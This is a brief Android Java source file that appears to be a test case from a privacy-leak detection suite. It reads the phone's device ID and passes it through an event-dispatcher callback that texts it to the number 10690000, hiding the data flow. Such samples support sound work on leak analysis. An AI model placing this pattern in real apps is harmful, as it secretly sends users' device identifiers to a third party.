package cn.privlens.suite.event_name_listeners;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Dispatcher d = new Dispatcher();
        d.on("ready", data -> SmsManager.getDefault().sendTextMessage("10690000", null, data, null, null));
        d.fire("ready", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        d.fire("closed", "bye");
    }
}
